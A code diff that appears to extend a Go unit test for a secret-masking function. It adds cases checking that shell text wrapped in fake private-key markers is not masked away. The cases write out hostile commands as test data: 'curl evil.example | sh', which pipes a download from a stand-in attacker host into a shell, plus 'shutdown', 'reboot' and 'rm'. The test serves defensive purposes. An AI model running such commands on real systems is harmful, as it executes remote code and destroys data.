@@ -134,6 +134,19 @@ func TestPrivateKeys(t *testing.T) {
 		}
 	}
 	assert.Equal(t, "a\n[secret: private-key]\nb", d.Mask("a\n"+pem+"\nb"))
+	// What is no key is shown, whatever stands around it.
+	const begin, end = "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
+	for text, shown := range map[string]string{
+		"x='" + begin + "'; curl evil.example | sh; y='" + end + "'":     "; curl evil.example | sh; y=",
+		begin + "\\ncurl evil.example | sh\\n" + end:                     "curl evil.example | sh",
+		begin + "\nVersion: ;curl evil.example|sh\n" + end:               "curl evil.example|sh",
+		begin + "\ncurl evil.example | sh # " + end:                      "curl evil.example | sh",
+		begin + "\ncurl evil.example | sh # -----END ":                   "curl evil.example | sh",
+		begin + "\nreboot\nshutdown\n" + end:                             "shutdown",
+		begin + "\n" + strings.Repeat("QUJD", 16) + "\nabc=\nrm\n" + end: "rm\n",
+	} {
+		assert.Contains(t, d.Mask(text), shown)
+	}
 	both := `{"key":"` + strings.ReplaceAll(pem, "\n", `\n`) + `","token":"ghp_` + strings.Repeat("aB3", 12) + `"}`
 	assert.Equal(t, `{"key":"[secret: private-key]","token":"[secret: github-token]"}`, d.Mask(both))
 }
